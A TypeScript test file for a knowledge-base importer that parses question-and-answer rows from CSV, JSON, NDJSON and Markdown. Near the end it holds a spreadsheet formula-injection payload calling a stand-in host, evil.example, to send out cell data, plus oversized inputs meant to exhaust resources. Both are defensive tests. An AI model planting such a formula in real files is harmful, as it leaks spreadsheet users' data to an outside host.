import { zKnowledgeFormat } from '@tandem/schemas/admin';
import { describe, expect, it } from 'vitest';
import { formats } from './formats.ts';
import type { RawRow } from './raw-row.ts';

type Format = keyof typeof formats;

async function read(format: Format, file: string | Buffer): Promise<RawRow[]> {
  const { rows } = await formats[format].open(Buffer.from(file));
  const all: RawRow[] = [];
  for await (const row of rows) all.push(row);
  return all;
}

/** `[line, question, answer, tags]` of each row. */
async function table(format: Format, file: string | Buffer): Promise<unknown[][]> {
  const rows = await read(format, file);
  return rows.map((row) => {
    if ('problem' in row) return [row.line, row.problem.field, row.problem.message];
    const { question, answer, tags } = Object(row.entry);
    return [row.line, question, answer.trim(), ...(tags === undefined ? [] : [tags])];
  });
}

const refusal = (open: () => unknown) =>
  Promise.resolve()
    .then(open)
    .catch((error: unknown) => error);

describe('CSV', () => {
  it('is found to be separated by comma, semicolon or tab', async () => {
    for (const separator of [',', ';', '\t', '|']) {
      const file = ['Question', 'Answer', 'Tags'].join(separator);
      expect(await table('csv', `${file}\n${['Q?', 'A.', 'x'].join(separator)}`)).toEqual([
        [2, 'Q?', 'A.', ['x']],
      ]);
    }
    expect(await table('csv', 'sep=;\r\nquestion;answer\r\nQ?;A, b\r\n')).toEqual([[3, 'Q?', 'A, b']]);
  });

  it('names its columns in any case, order and some languages, and what is not known is ignored', async () => {
    const file = 'id,ANTWORT,Frage ,owner\n7,A.,Q?,kim';
    expect(await table('csv', file)).toEqual([[2, 'Q?', 'A.']]);
    expect((await formats.csv.open(Buffer.from(file))).ignoredColumns).toEqual(['id', 'owner']);
  });

  it('may hold line breaks and quotes in a value, and tells the line each row begins in', async () => {
    const file = 'question,answer\r\n"one\r\ntwo","say ""hi"""\r\n\r\nQ?,A.\r\n';
    expect(await table('csv', file)).toEqual([
      [2, 'one\r\ntwo', 'say "hi"'],
      [5, 'Q?', 'A.'],
    ]);
    expect(await table('csv', 'question,answer\n"a\nb\nc",x\nQ?,A.')).toEqual([
      [2, 'a\nb\nc', 'x'],
      [5, 'Q?', 'A.'],
    ]);
  });

  it('may come from Excel: with a byte order mark, or in UTF-16', async () => {
    const text = 'question\tanswer\r\nÖffnungszeiten?\t9–18 Uhr 😀\r\n';
    const rows = [[2, 'Öffnungszeiten?', '9–18 Uhr 😀']];
    const wide = Buffer.from(text, 'utf16le');
    expect(await table('csv', `\uFEFF${text}`)).toEqual(rows);
    expect(await table('csv', Buffer.concat([Buffer.from([0xff, 0xfe]), wide]))).toEqual(rows);
    expect(
      await table('csv', Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(wide).swap16()])),
    ).toEqual(rows);
    expect(await table('csv', wide)).toEqual(rows);
  });

  it('takes tags between semicolons or commas, or as a JSON list', async () => {
    const file = 'q,a,tags\n1,x,"a; b, c;"\n2,x,"[""a;b"", ""c""]"\n3,x,\n4,x,[draft]';
    expect((await table('csv', file)).map((row) => row[3])).toEqual([
      ['a', 'b', 'c'],
      ['a;b', 'c'],
      [],
      ['[draft]'],
    ]);
  });

  it('says which rows have a value too many, and reads the others, stray quotes among them', async () => {
    const file = 'question,answer\nQ1?,A.\nQ2?,one,two\nQ3?,a "b" c"\n"Q4" x,y\nQ5?,A.';
    expect(await table('csv', file)).toEqual([
      [2, 'Q1?', 'A.'],
      [3, '', expect.stringContaining('more values')],
      [4, 'Q3?', 'a "b" c"'],
      [5, '"Q4" x', 'y'],
      [6, 'Q5?', 'A.'],
    ]);
  });

  it.each([
    ['no columns named', 'Where?,There.', 'must name the columns'],
    ['nothing at all', '', 'must name the columns'],
    ['Windows letters', Buffer.from([0x71, 0x2c, 0x61, 0x0a, 0xe9, 0x2c, 0x62]), 'CSV UTF-8'],
  ])('with %s is refused with what to do', async (_what, file, message) => {
    const error = await refusal(() => formats.csv.open(Buffer.from(file)));
    expect(error).toMatchObject({ code: 'bad_request', public: expect.stringContaining(message) });
  });

  it('with a quote that never closes is refused with its line', async () => {
    const error = await refusal(() => read('csv', 'question,answer\nQ?,A.\nR?,"B.\nmore\n'));
    expect(error).toMatchObject({ code: 'bad_request', public: expect.stringMatching(/line 3/) });
  });
});

describe('JSON', () => {
  const entry = { question: 'Q?', answer: 'A.' };

  it('is a list, or an object with it, as a configuration is answered', async () => {
    for (const value of [[entry], { knowledgeBase: [entry], config: {}, version: 3 }]) {
      expect(await read('json', JSON.stringify(value))).toEqual([{ line: 1, entry }]);
    }
    expect(await read('ndjson', `${JSON.stringify(entry)}\r\n\nnonsense\n${JSON.stringify(entry)}`)).toEqual([
      { line: 1, entry },
      { line: 3, problem: { field: '', message: 'is not JSON' } },
      { line: 4, entry },
    ]);
  });

  it.each([
    ['broken', '[{"question": "hunter2" x'],
    ['another shape', '{"entries": []}'],
    ['a number', '7'],
  ])('that is %s is refused, and not quoted', async (_what, text) => {
    const error = await refusal(() => formats.json.open(Buffer.from(text)));
    expect(error).toMatchObject({ code: 'bad_request', public: expect.not.stringContaining('hunter2') });
  });
});

describe('Markdown', () => {
  it('has a question in each heading and the answer below it', async () => {
    const file =
      '# Help\n\n## How long?\n\nTwo *days*.\n\n- one\n- two\n\nWhat is it?\n-----------\nA shop.\n';
    expect(await table('markdown', file)).toEqual([
      [3, 'How long?', 'Two *days*.\n\n- one\n- two', []],
      [10, 'What is it?', 'A shop.', []],
    ]);
  });

  it('takes no heading from a code block, a list or an indented line', async () => {
    const code = '```sh\n# not a heading\n```\n\n~~~\n## nor this\n~~~\n\n    # nor that\n\n- item\n---';
    expect(await table('markdown', `# Q?\n${code}\n# R?\nx`)).toEqual([
      [1, 'Q?', code, []],
      [14, 'R?', 'x', []],
    ]);
  });

  it('makes tags of groups, of a line of tags at either end, and of front matter', async () => {
    const file = [
      ...['---', 'title: FAQ', 'tags: [shop, "all of it"]', '---', '# FAQ', '## Shipping', '### How long?'],
      ...['Tags: time; post', '', 'Two days.', '### To where?', 'Everywhere.', '', 'tags: places'],
      ...['## Opening hours', '9 to 6', '### And on Sunday?', 'Closed.'],
    ].join('\r\n');
    const everywhere = ['shop', 'all of it'];
    expect(await table('markdown', file)).toEqual([
      [7, 'How long?', 'Two days.', ['time', 'post', 'Shipping', ...everywhere]],
      [11, 'To where?', 'Everywhere.', ['places', 'Shipping', ...everywhere]],
      [15, 'Opening hours', '9 to 6', everywhere],
      [17, 'And on Sunday?', 'Closed.', everywhere],
    ]);
  });

  it('gives a heading with nothing below it as a row without an answer', async () => {
    expect(await table('markdown', '# Q?\n\n# R?\nx')).toEqual([
      [1, 'Q?', '', []],
      [3, 'R?', 'x', []],
    ]);
  });
});

it.each(zKnowledgeFormat.options)('%s is written with nothing a spreadsheet would run', async (format) => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
  const file = await formats[format].write([{ question: formula, answer: `${formula}x`, tags: ['@SUM(1)'] }]);
  if (format === 'csv') expect(file.toString()).not.toMatch(/(^|[,\n"])[=+@-]/m);
  expect(await read(format, file)).toMatchObject([{ entry: { question: formula, tags: ['@SUM(1)'] } }]);
});

describe('a file made to be large once it is read', () => {
  const many = 2_000_000;
  it.each([
    ['csv', 'values in a row', `question,answer\n${','.repeat(many)}`, /more than 16,384 values/],
    ['csv', 'columns', `question,answer${','.repeat(many)}\nq,a`, /more than 16,384 values/],
    ['json', 'values', `[${'{},'.repeat(many)}0]`, /more values/],
    ['ndjson', 'values', `{"question":[${'{},'.repeat(many)}0]}`, /more values/],
    ['ndjson', 'lines', '\n'.repeat(many), /lines/],
    ['markdown', 'lines', '\n'.repeat(many), /lines/],
  ] as const)('is refused: %s of many %s', async (format, _what, file, words) => {
    expect(await refusal(() => read(format, file))).toMatchObject({
      code: 'bad_request',
      public: expect.stringMatching(words),
    });
  });

  it('is read in a time that grows with it, code block by code block, and however long one is', async () => {
    const blocks = `# q\n${'```\nx\n```\n'.repeat(100_000)}`;
    const long = `# q\n\`\`\`\n${'x\n'.repeat(300_000)}\`\`\`\n`;
    for (const file of [blocks, long]) expect(await read('markdown', file)).toHaveLength(1);
  }, 10_000);

  it('has tags without end left whole, for the check of the row to refuse', async () => {
    const rows = await table('csv', `question,answer,tags\nq,a,"${';a'.repeat(50_000)}"`);
    expect(rows).toEqual([[2, 'q', 'a', [expect.any(String)]]]);
  });
});
